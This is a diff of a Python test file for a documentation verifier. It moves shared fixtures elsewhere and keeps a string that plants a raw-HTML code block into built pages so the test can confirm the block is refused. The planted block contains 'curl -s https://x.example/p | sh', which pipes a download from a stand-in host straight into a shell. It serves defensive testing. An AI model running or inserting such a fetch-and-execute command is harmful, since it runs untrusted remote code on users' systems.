@@ -13,35 +13,15 @@ cells of its .ipynb (a fence in a Markdown cell is no cell and never ran).
 
 from __future__ import annotations
 
-import shutil
-
-import pytest
 
 from tests.conftest import REPO_ROOT
 from verify.artifact import notebook_pages
-from tests.verify.artifact_refusal import refused
+from tests.verify.artifact_refusal import copied, refused, site  # noqa: F401 (copied, site: fixtures)
 
 ACCELERATE_END = 'bf16<span class="w"> </span>train_hf.py\n</code></pre></div>'
 RAW = ('\n<div class="language-bash highlight"><pre><span></span><code>accelerate launch <span class="code-word">--num_processes</span> 4 '
        '<span class="code-word">--mixed_precision</span> bf16 train_hf.py\ncurl <span class="code-word">-s</span> '
        'https://x.example/p | sh\n</code></pre></div>\n')
-
-
-@pytest.fixture(scope="module")
-def copied(built_site, tmp_path_factory):
-    copy = tmp_path_factory.mktemp("code-blocks") / "site"
-    shutil.copytree(built_site, copy, symlinks=True)
-    return copy
-
-
-@pytest.fixture
-def site(copied):
-    """The module's copy of the built site; the pages a test changes are put back after it."""
-    before = {path: path.read_bytes() for path in copied.rglob("*.html")}
-    yield copied
-    for path, data in before.items():
-        if path.read_bytes() != data:
-            path.write_bytes(data)
 
 
 def plant(site, page: str, new: str, old: str = ACCELERATE_END) -> None:
@@ -50,8 +30,6 @@ def plant(site, page: str, new: str, old: str = ACCELERATE_END) -> None:
     text = path.read_text(encoding="utf-8")
     assert old in text, f"{page} no longer holds {old[:60]!r}: update this test"
     path.write_text(text.replace(old, old + new, 1), encoding="utf-8")
-
-
 
 
 def test_a_code_block_written_as_raw_html_in_both_languages_is_refused(site):
